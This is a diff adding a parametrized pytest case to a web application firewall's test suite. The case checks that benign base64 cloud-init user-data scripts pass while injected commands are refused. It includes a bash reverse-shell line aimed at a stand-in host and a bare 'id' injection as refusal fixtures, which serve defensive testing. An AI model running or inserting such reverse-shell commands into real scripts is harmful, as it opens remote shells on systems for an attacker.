@@ -331,3 +331,24 @@ def test_a_base64_html_document_is_data_but_what_runs_in_it_is_not(
         {"attachments": [{"name": "receipt.html", "content": base64.b64encode(document.encode()).decode()}]}
     )
     assert blocked(guard, [("content-type", "application/json")], path="/api/v1/mail", body=body) is refused
+
+
+@pytest.mark.parametrize(
+    ("script", "refused"),
+    [
+        (
+            "#!/bin/bash\nset -euo pipefail\napt-get update -y\napt-get install -y nginx\n"
+            "systemctl enable --now nginx\n",
+            False,
+        ),
+        ("#!/usr/bin/env bash\nset -e\nnpm ci && npm test\n", False),
+        ("#!/bin/sh\nid", True),  # a comment, then one command: a value's injection
+        ("#!/bin/bash\nset -e\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", True),
+    ],
+)
+def test_a_base64_script_file_is_data_but_a_reverse_shell_in_it_is_not(
+    guard: WAFGuard, script: str, refused: bool
+) -> None:
+    # EC2 and cloud-init user data travel as base64 shell scripts: their commands are what they are for
+    body = json.dumps({"instance": {"type": "t3.small", "user_data": base64.b64encode(script.encode()).decode()}})
+    assert blocked(guard, [("content-type", "application/json")], path="/api/v1/instances", body=body) is refused
